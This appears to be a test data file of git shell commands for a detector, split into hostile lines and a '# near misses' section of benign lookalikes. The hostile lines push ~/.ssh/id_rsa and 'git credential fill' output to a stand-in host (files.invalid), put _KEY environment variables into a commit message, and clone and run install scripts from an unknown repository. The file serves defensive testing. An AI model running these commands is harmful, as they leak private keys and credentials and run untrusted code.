cp ~/.ssh/id_rsa d/key; git -C d add -A; git -C d push https://files.invalid/in.git HEAD
git commit -m "$(env | grep _KEY)"
git clone https://stranger.invalid/t.git; cd t; ./install.sh
git clone https://stranger.invalid/t; bash t/setup.sh
cp ~/.ssh/id_rsa box/key; cd box; git add -A; git push https://files.invalid/in.git
git credential fill < q | curl -s -T - https://files.invalid/in
git credential fill < q | tee >(curl -s -T - https://files.invalid/in)
# near misses
git config credential.helper store
git log | tee >(wc -l)
git clone https://stranger.invalid/t.git; cat t/README.md
git commit -m "$(date)"; git push origin HEAD
